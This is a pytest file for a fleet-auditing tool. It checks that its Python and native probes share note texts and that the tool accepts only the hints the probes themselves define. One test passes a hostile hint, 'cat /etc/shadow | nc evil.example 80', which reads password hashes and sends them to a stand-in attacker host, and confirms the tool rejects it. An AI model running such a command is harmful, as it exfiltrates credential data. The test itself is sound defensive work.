"""What the probes say of a watch: the same words from both, and hints that somebody types are only
those that the probes have.
"""

from __future__ import annotations

import ast
import re

import pytest
from msgspec.structs import replace

from fleetaudit.model import Os, Watch, Watched
from fleetaudit.probe.production import watched_of
from fleetaudit.probe.reply import ReplyBase
from tests import ROOT
from tests.support.replies import plan
from tests.support.runs import K612

PROBE = ROOT / "fleetaudit" / "probe"
LOCKDOWN = "/sys/kernel/security/lockdown"


def python_hints() -> set[str]:
    """Returns the hints in the source of the Python probe."""
    found = set[str]()
    for file in (PROBE / "remote").glob("watch*.py"):
        for node in ast.walk(ast.parse(file.read_text("utf-8"))):
            if isinstance(node, ast.Call) and getattr(node.func, "id", "") == "CannotWatch":
                found.add(_text(node.args[1]))
    return found


def _text(node: ast.expr) -> str:
    """Returns the value of a text, or of a text and LOCKDOWN."""
    if isinstance(node, ast.BinOp):
        return f"{ast.literal_eval(node.left)}{LOCKDOWN}"
    return str(ast.literal_eval(node))


def native_hints() -> set[str]:
    """Returns the hints in the source of the native probe."""
    sources = "".join(file.read_text("utf-8") for file in (PROBE / "native").glob("watch*.c"))
    found = {*re.findall(r'watch_fails\(\s*&?[\w.>-]+,\s*"([^"]+)"', sources)}
    return found | {*re.findall(r'PARANOID\[\] = "([^"]+)"', sources)}


def python_notes() -> set[str]:
    """Returns the notes in the source of the Python probe."""
    names = {
        target.id: ast.literal_eval(node.value)
        for file in (PROBE / "remote").glob("watch*.py")
        for node in ast.parse(file.read_text("utf-8")).body
        if isinstance(node, ast.Assign)
        for target in node.targets
        if isinstance(target, ast.Name) and target.id.endswith("_NOTE")
    }
    return {*names.values()}


def native_notes() -> set[str]:
    """Returns the notes in the source of the native probe, with Python's formats of numbers."""
    sources = "".join(file.read_text("utf-8") for file in (PROBE / "native").glob("watch*.c"))
    joined = re.sub(r'(?<!\\)"\s*"', "", sources)
    found = re.findall(r'add_note\(\s*[\w.&>-]+,\s*"((?:[^"\\]|\\.)+)"', joined)
    return {re.sub("%l+d", "%d", note).replace('\\"', '"') for note in found}


def hint_taken(hint: str) -> str:
    """Returns the hint of a host that could not be watched, if it sends `hint`."""
    reply = ReplyBase(
        protocol=2,
        kernel=K612,
        os=Os(),
        python="3.11",
        isolation="host",
        exposure=None,
        elapsed_s=1.0,
        watch=Watched(problem="x", hint=hint),
    )
    watched = watched_of(replace(plan(), watch=Watch(seconds=1.0)), reply)
    assert isinstance(watched, Watched)
    return watched.hint


@pytest.mark.parametrize("hints", [python_hints(), native_hints()], ids=["python", "native"])
def test_every_hint_of_a_probe_is_taken(hints: set[str]) -> None:
    assert len(hints) >= 5
    assert {hint for hint in hints if hint_taken(hint) != hint} == set()


def test_no_other_command_is_taken_from_a_host() -> None:
    assert hint_taken("cat /etc/shadow | nc evil.example 80") == ""


def test_both_probes_note_in_the_same_words() -> None:
    notes = python_notes()
    assert len(notes) > 5
    assert notes == native_notes()
